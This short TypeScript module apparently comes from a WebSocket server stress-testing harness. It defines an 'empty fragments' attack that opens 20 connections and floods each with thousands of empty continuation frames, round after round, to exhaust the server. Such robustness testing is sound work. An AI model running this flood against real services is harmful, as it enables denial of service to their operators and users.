import type { Attack } from "../attack.ts";
import { frame, repeated } from "../raw-socket.ts";

const BEGIN = frame(new Uint8Array(0), { fin: false });
const EMPTY = repeated(frame(new Uint8Array(0), { opcode: 0, fin: false }), 5_000);

/** Messages made of empty fragments. */
export const attack: Attack = {
  name: "empty fragments",
  connections: [20],
  run: async (target) => {
    while (!target.over) {
      const clients = await target.connectAll();
      for (const client of clients) client.write(BEGIN);
      for (let round = 0; round < 4 && !target.over; round++) {
        for (const client of clients) client.write(EMPTY);
        await Promise.all(clients.map((client) => client.drained()));
        await target.pause(20);
      }
      for (const client of clients) client.destroy();
    }
  },
};
